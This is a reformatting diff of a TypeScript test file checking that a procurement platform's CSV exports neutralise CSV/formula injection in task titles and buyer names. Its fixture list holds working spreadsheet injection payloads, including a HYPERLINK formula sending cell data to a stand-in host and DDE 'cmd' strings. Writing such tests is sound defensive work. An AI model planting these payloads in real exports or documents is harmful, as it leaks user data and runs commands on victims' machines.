@@ -3,13 +3,28 @@ import { spreadsheetCsv } from "~/domain/exports/spreadsheet-csv";
 import { ordersCsv } from "~/domain/procurement/procurement.server";
 import { dashboardCsv } from "~/domain/statistics/dashboard-csv.server";
 import type { DashboardData } from "~/domain/statistics/dashboard.server";
-import { activeCandidatesPerCompany, estimatedSaving, funnel, hiresByMeasure, medianDaysToHire, openingFigures, procurementByQuarter } from "~/domain/statistics/figures";
+import {
+  activeCandidatesPerCompany,
+  estimatedSaving,
+  funnel,
+  hiresByMeasure,
+  medianDaysToHire,
+  openingFigures,
+  procurementByQuarter,
+} from "~/domain/statistics/figures";
 
 /**
  * CSV injection: text another organisation typed (a task title, a company name) must reach a
  * spreadsheet as text, never as a formula. Each hostile cell must come out prefixed with a quote.
  */
-const hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"Klikk")', "+47 cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
+const hostile = [
+  '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")',
+  "+47 cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\r=1+1",
+];
 
 /** RFC 4180 records as a spreadsheet reads them: quoted cells may hold commas, quotes and CR. */
 function parse(csv: string): string[][] {
@@ -51,12 +66,33 @@ describe("orders CSV (ordersCsv)", () => {
   it("writes a hostile task title and buyer and supplier names as text", () => {
     const at = new Date("2026-11-20T10:00:00Z");
     const rows = hostile.map((text, i) => ({
-      id: `order${i}`, quoteId: `q${i}`, taskId: `t${i}`, buyerId: "b", companyId: "c",
-      amountExVatOre: 100_000_00, vatOre: 25_000_00, totalOre: 125_000_00, platformFeeOre: 3_000_00,
-      status: "AWARDED" as const, awardReason: "Best", cancelReason: null, paymentMethod: null,
-      stripeCheckoutSessionId: null, stripeInvoiceId: null, stripePaymentIntentId: null, stripeRefundId: null,
-      awardedAt: at, deliveryStartedAt: null, deliveredAt: null, acceptedAt: null, paidAt: null, cancelledAt: null, refundedAt: null,
-      quote: { task: { id: `t${i}`, title: text } }, buyer: { name: text }, company: { name: `Leverandør ${i}` },
+      id: `order${i}`,
+      quoteId: `q${i}`,
+      taskId: `t${i}`,
+      buyerId: "b",
+      companyId: "c",
+      amountExVatOre: 100_000_00,
+      vatOre: 25_000_00,
+      totalOre: 125_000_00,
+      platformFeeOre: 3_000_00,
+      status: "AWARDED" as const,
+      awardReason: "Best",
+      cancelReason: null,
+      paymentMethod: null,
+      stripeCheckoutSessionId: null,
+      stripeInvoiceId: null,
+      stripePaymentIntentId: null,
+      stripeRefundId: null,
+      awardedAt: at,
+      deliveryStartedAt: null,
+      deliveredAt: null,
+      acceptedAt: null,
+      paidAt: null,
+      cancelledAt: null,
+      refundedAt: null,
+      quote: { task: { id: `t${i}`, title: text } },
+      buyer: { name: text },
+      company: { name: `Leverandør ${i}` },
     }));
     const [header, ...records] = parse(ordersCsv(rows));
     expect(records).toHaveLength(hostile.length);
